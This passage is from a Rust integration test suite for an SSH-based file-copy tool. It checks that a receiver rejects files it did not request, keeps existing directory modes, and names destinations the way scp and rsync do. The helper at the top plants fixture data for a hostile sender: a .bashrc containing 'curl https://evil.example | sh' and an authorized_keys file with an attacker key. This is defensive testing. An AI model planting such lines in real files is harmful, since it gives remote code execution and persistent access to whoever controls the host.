    std::fs::write(far.join("wanted.txt"), b"wanted").unwrap();
    std::fs::write(far.join("evil.txt"), b"evil").unwrap();
    std::fs::write(far.join(".bashrc"), b"curl https://evil.example | sh\n").unwrap();
    std::fs::write(far.join(".ssh/authorized_keys"), b"ssh-ed25519 AAAA evil\n").unwrap();
    fsx::set_mode(&far.join(".ssh"), 0o755);
    let script = h.path("hostile-hurtle");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\n# Ignores what it is asked for and sends more.\ncd {} && exec {} \
             ssh-serve send wanted.txt evil.txt .bashrc .ssh\n",
            far.display(),
            bin()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    script
}

#[test]
fn a_pull_takes_only_what_it_asked_for_and_names_the_rest() {
    let Some(h) = Sshd::start("a_pull_takes_only_what_it_asked_for_and_names_the_rest") else {
        return;
    };
    let far = h.path("far");
    let hostile = hostile_far_side(&h, &far);
    // This side's home: its own .bashrc and .ssh (0700), which the far side tries to replace.
    let local = support::tempdir("hurtle-cp-");
    let home = local.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    fsx::set_mode(&home.join(".ssh"), 0o700);
    std::fs::write(home.join(".bashrc"), b"mine\n").unwrap();
    std::fs::write(home.join(".ssh/authorized_keys"), b"my key\n").unwrap();
    let before = fsx::tree(&home);
    let wanted = h.remote(&far.join("wanted.txt"));
    for extra in [&[][..], &["--overwrite"][..]] {
        let mut args = extra.to_vec();
        args.extend([wanted.as_str(), s(&home)]);
        let f = h.spawn_cp_with(s(&hostile), &args).wait(TRANSFER_TIMEOUT);
        let cause = f.assert_failure();
        eprintln!("{extra:?}: exit {:?}: {cause}", f.status.code());
        for name in ["evil.txt", ".bashrc", ".ssh/authorized_keys"] {
            assert!(cause.contains(name), "{name} is not named: {cause}");
        }
        assert!(cause.contains("not asked for"), "{cause}");
        // Nothing landed: not even what was asked for, nor a part file.
        assert_eq!(fsx::tree(&home), before, "{extra:?}");
    }
    // The same pull from an honest far side takes the file asked for.
    h.cp(&[&wanted, s(&home)]).assert_success();
    assert_eq!(std::fs::read(home.join("wanted.txt")).unwrap(), b"wanted");
    assert_eq!(std::fs::read(home.join(".bashrc")).unwrap(), b"mine\n");
    // A directory asked for may hold anything; a contents pull (SRC/) takes any name.
    let tree = local.path().join("tree");
    h.cp(&[&h.remote(&far.join(".ssh")), &dir(&tree)])
        .assert_success();
    assert_eq!(names(&tree), [".ssh", ".ssh/authorized_keys"]);
    let all = local.path().join("all");
    h.cp(&[&h.remote_dir(&far), s(&all)]).assert_success();
    assert_eq!(
        names(&all),
        [
            ".bashrc",
            ".ssh",
            ".ssh/authorized_keys",
            "evil.txt",
            "wanted.txt"
        ]
    );
}

#[test]
fn an_existing_directory_keeps_its_mode_unless_overwrite_says_so() {
    let Some(h) = Sshd::start("an_existing_directory_keeps_its_mode_unless_overwrite_says_so")
    else {
        return;
    };
    let local = support::tempdir("hurtle-cp-");
    // On either side: a tree whose .ssh is 0755, and a destination whose .ssh is 0700.
    let make = |root: &Path, file: &str| {
        std::fs::create_dir_all(root.join(".ssh")).unwrap();
        std::fs::write(root.join(".ssh").join(file), file.as_bytes()).unwrap();
        fsx::set_mode(&root.join(".ssh"), 0o755);
    };
    let guarded = |root: &Path| {
        std::fs::create_dir_all(root.join(".ssh")).unwrap();
        fsx::set_mode(&root.join(".ssh"), 0o700);
    };
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;

    // Pull: the far tree's contents into this side's home.
    let far_src = h.path("src");
    make(&far_src, "known_hosts");
    let home = local.path().join("home");
    guarded(&home);
    h.cp(&[&h.remote_dir(&far_src), s(&home)]).assert_success();
    assert!(home.join(".ssh/known_hosts").is_file());
    assert_eq!(mode(&home.join(".ssh")), 0o700, "pull changed the mode");

    // Push: this side's tree's contents into the far home.
    let src = local.path().join("src");
    make(&src, "config");
    let far_home = h.path("home");
    guarded(&far_home);
    h.cp(&[&dir(&src), &h.remote(&far_home)]).assert_success();
    assert!(far_home.join(".ssh/config").is_file());
    assert_eq!(mode(&far_home.join(".ssh")), 0o700, "push changed the mode");

    // With --overwrite the sender's mode is applied, both ways.
    make(&far_src, "more");
    h.cp(&["--overwrite", &h.remote_dir(&far_src), s(&home)])
        .assert_success();
    assert_eq!(mode(&home.join(".ssh")), 0o755);
    make(&src, "more");
    h.cp(&["--overwrite", &dir(&src), &h.remote(&far_home)])
        .assert_success();
    assert_eq!(mode(&far_home.join(".ssh")), 0o755);
    // A directory the transfer creates takes the sender's mode, as always.
    let fresh = local.path().join("fresh");
    h.cp(&[&h.remote_dir(&far_src), s(&fresh)]).assert_success();
    assert_eq!(mode(&fresh.join(".ssh")), 0o755);
}

/// rsync, run here as the reference: `rsync -r ARGS...`.
fn rsync(args: &[&str]) {
    let out = Command::new("rsync")
        .arg("-r")
        .args(args)
        .output()
        .expect("these tests run rsync as the reference: apt-get install rsync");
    assert!(
        out.status.success(),
        "rsync {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `path`, whether a file or a tree, is the same as `want` (names, bytes and modes).
fn assert_same(want: &Path, got: &Path, what: &str) {
    if want.is_dir() {
        assert!(got.is_dir(), "{what}: {got:?} is not a directory");
        assert_eq!(fsx::tree(got), fsx::tree(want), "{what}");
    } else {
        fsx::assert_same_file(want, got);
    }
}

#[test]
fn destinations_are_named_as_scp_and_rsync_name_them_push_and_pull() {
    let Some(h) = Sshd::start("destinations_are_named_as_scp_and_rsync_name_them_push_and_pull")
    else {
        return;
    };
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("big.bin");
    fsx::write_random(&file, 300_000, 61);
    let tree = make_tree(local.path());
    // The far host's copies of the same sources, for the pulls.
    let far_src = h.path("src");
    fsx::write_random(&far_src.join("big.bin"), 300_000, 61);
    make_tree(&far_src);
    let slash = |p: &Path| format!("{}/", p.display());

    // (sources, DEST below the destination root, where the source lands there, and where
    // rsync puts it when it does otherwise).
    let cases: [(&str, &str, &str, Option<&str>); 6] = [
        // A DEST that does not exist is the new name of a single file.
        ("big.bin", "renamed.bin", "renamed.bin", None),
        // An existing directory, or DEST/, means into it.
        ("big.bin", "existing", "existing/big.bin", None),
        ("big.bin", "newdir/", "newdir/big.bin", None),
        ("tree", "existing", "existing/tree", None),
        // SRC/ is the contents: they fill a new DEST.
        ("tree/", "contents", "contents", None),
        // A tree to a DEST that does not exist: DEST is the copy, as scp -r and cp -r make
        // it; rsync makes DEST/tree.
        ("tree", "copy", "copy", Some("copy/tree")),
    ];
    for pull in [false, true] {
        let way = if pull { "pull" } else { "push" };
        let root = local.path().join(format!("{way}-dest"));
        let far_root = h.path(&format!("{way}-dest"));
        let reference = local.path().join(format!("{way}-rsync"));
        for r in [&root, &far_root, &reference] {
            std::fs::create_dir_all(r.join("existing")).unwrap();
        }
        let (dest_root, src_root) = if pull {
            (&root, &far_src)
        } else {
            (&far_root, &local.path().to_path_buf())
        };
        for (src, dest, lands, rsync_lands) in cases {
            let what = format!("{way} {src} to {dest}");
            let src_path = src_root.join(src.trim_end_matches('/'));
            let src_arg = if src.ends_with('/') {
                slash(&src_path)
            } else {
                s(&src_path).to_string()
            };
            let args = if pull {
                let remote = h.remote(&src_path);
                let remote = if src.ends_with('/') {
                    format!("{remote}/")
                } else {
                    remote
                };
                [remote, format!("{}", root.join(dest).display())]
            } else {
                [src_arg.clone(), h.remote(&far_root.join(dest))]
            };
            h.cp(&[&args[0], &args[1]]).assert_success();
            let got = dest_root.join(lands);
            assert_same(&src_path, &got, &what);
            fsx::assert_no_part_files(dest_root);
            // rsync as the reference, here.
            rsync(&[&src_arg, s(&reference.join(dest))]);
            match rsync_lands {
                None => assert_same(&src_path, &reference.join(lands), &format!("rsync {what}")),
                Some(there) => {
                    assert_same(&src_path, &reference.join(there), &format!("rsync {what}"));
                    assert!(!reference.join(lands).join("top.bin").exists(), "{what}");
                }
            }
        }
        // Several sources need a directory: DEST/ makes one, a missing DEST is refused.
        let many = |dest: String| {
            if pull {
                h.cp(&[
                    &h.remote(&far_src.join("big.bin")),
                    &h.remote(&far_src.join("tree")),
                    &dest,
                ])
            } else {
                h.cp(&[s(&file), s(&tree), &dest])
            }
        };
        let (missing, made) = if pull {
            (
                s(&root.join("missing")).to_string(),
                slash(&root.join("made")),
            )
        } else {
            (
                h.remote(&far_root.join("missing")),
                format!("{}/", h.remote(&far_root.join("made"))),
            )
        };
        let f = many(missing);
        let cause = f.assert_failure();
        assert_eq!(f.status.code(), Some(2), "{way}: {cause}\n{}", f.stderr);
        assert!(
            f.stderr.contains("several sources need DEST"),
            "{way}: {}",
            f.stderr
        );
        assert!(!dest_root.join("missing").exists(), "{way}");
        many(made).assert_success();
        assert_same(&file, &dest_root.join("made/big.bin"), way);
        assert_same(&tree, &dest_root.join("made/tree"), way);
        // A single file onto an existing file replaces it only with --overwrite.
        let onto = dest_root.join("renamed.bin");
        std::fs::write(&onto, b"theirs").unwrap();
        let (src, dest) = if pull {
            (h.remote(&far_src.join("big.bin")), s(&onto).to_string())
        } else {
            (s(&file).to_string(), h.remote(&onto))
        };
        let f = h.cp(&[&src, &dest]);
        let cause = f.assert_exit(3);
        assert!(cause.contains("exists on the receiver"), "{way}: {cause}");
        assert_eq!(std::fs::read(&onto).unwrap(), b"theirs");
        h.cp(&["--overwrite", &src, &dest]).assert_success();
        assert_same(&file, &onto, way);
    }
}
